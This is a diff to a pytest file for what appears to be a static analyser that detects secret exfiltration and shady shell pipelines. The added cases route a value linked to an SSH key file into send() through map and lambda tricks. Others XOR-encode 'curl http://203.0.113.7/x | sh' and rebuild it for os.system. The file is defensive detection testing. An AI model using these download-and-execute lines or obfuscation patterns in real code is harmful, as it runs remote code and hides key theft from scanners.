@@ -294,6 +294,9 @@ def test_a_function_is_read_again_for_a_list_that_takes_the_place_of_one_that_is
         "def give(*args, **words):\n    send(words['key'])\ngive('x', key=d['a']['b'])",
         "def give(*args):\n    send(args[1])\ngive(*['x', d['a']['b']])",
         "send([value['b'] for value in d.values()][0])",
+        "send(list(map(lambda value: value['b'], d.values()))[0])",
+        "send(list(map(lambda name: d[name]['b'], ['a', 'b', 'c', 'd'] * 9)))",
+        "self = [[]]\nself[0].append(d['a'])\nsend(self[0])",
     ],
 )
 def test_what_is_kept_in_a_list_or_a_mapping_is_followed(way: str) -> None:
@@ -303,6 +306,21 @@ def test_what_is_kept_in_a_list_or_a_mapping_is_followed(way: str) -> None:
     )
     assert found(text + way) == {"secret-sent": "critical"}
     assert "secret-sent" not in found(text.replace(".ssh/id_rsa", "notes.md") + way)
+
+
+COMMAND = [ord(letter) ^ 3 for letter in "curl http://203.0.113.7/x | sh"]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"''.join(map(lambda code: chr(code ^ 3), {COMMAND}))",
+        f"''.join(chr(code ^ 3) for code in {COMMAND})",
+        f"functools.reduce(lambda start, code: start + chr(code ^ 3), {COMMAND}, '')",
+    ],
+)
+def test_a_command_that_is_put_together_by_a_function_is_read(line: str) -> None:
+    assert "pipe-shady" in found(f"import os, functools\nos.system({line})\n")
 
 
 @pytest.mark.parametrize(
